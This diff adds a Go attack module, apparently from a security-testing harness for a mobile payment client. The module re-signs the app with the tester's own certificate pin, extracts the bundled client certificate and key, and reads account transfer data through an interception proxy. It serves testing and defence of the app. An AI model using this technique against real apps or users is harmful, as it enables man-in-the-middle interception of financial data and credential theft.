@@ -1,0 +1,78 @@
+package attacker
+
+import (
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"strings"
+
+	"keyladder/mobileclient/device"
+)
+
+func init() { attacks["repin"] = repin }
+
+// repin replaces the server's pins in the package by the pin of the attacker's proxy.
+// The app then insists on the proxy as it did on the server. The client certificate,
+// which the API wants to see, is in the package too, and the proxy shows it.
+func repin(ctx context.Context, g *Ground) (Result, error) {
+	ca, err := newAuthority()
+	if err != nil {
+		return Result{}, err
+	}
+	ownPin, err := ca.pin()
+	if err != nil {
+		return Result{}, err
+	}
+	path, err := g.repackage(func(settings map[string]any) error {
+		if pins, ok := settings["SERVER_PINS"].([]any); !ok || len(pins) == 0 {
+			return &refusal{obstacle: "there are no pins in the package that could be replaced"}
+		}
+		settings["SERVER_PINS"] = []string{string(ownPin)}
+		return nil
+	})
+	if err != nil {
+		return stopped(err)
+	}
+	g.Say("Took the package apart, put the pin of our own proxy into SERVER_PINS, and signed it with a key of our own.")
+	found, err := g.searchPackage()
+	if err != nil {
+		return Result{}, err
+	}
+	var certificate *tls.Certificate
+	if pairs := found.clientCertificates(); len(pairs) > 0 {
+		certificate = &pairs[0]
+		g.Say("Found the app's client certificate and its key in the package; the proxy will show it to the API.")
+	}
+	proxy, err := newInterceptor(g, ca, certificate)
+	if err != nil {
+		return Result{}, err
+	}
+	defer proxy.close()
+	phone, err := g.open(ctx, path, func(d *device.Device) error {
+		d.SetNetwork(proxy.network())
+		return errors.Join(sideload(d), d.Trust(ca.pem()))
+	})
+	if err != nil {
+		return Result{}, err
+	}
+	defer phone.close()
+	g.Say("Installed it on our own phone, which trusts our own CA and goes through our own proxy.")
+	from, err := phone.richest(ctx)
+	if err != nil {
+		return stopped(err)
+	}
+	if _, err := shown(phone.app.Transfers(ctx, from.ID)); err != nil {
+		return stopped(err)
+	}
+	var data strings.Builder
+	for _, call := range proxy.read() {
+		g.Say("The proxy reads: %s %s, answered with %d and %d bytes.", call.request.Method, call.request.URL.Path, call.status, len(call.received))
+		data.Write(call.received)
+		data.WriteByte('\n')
+	}
+	if data.Len() == 0 {
+		return Result{}, fmt.Errorf("the app works, but nothing came through the proxy")
+	}
+	return Result{Claim: true, Data: data.String()}, nil
+}
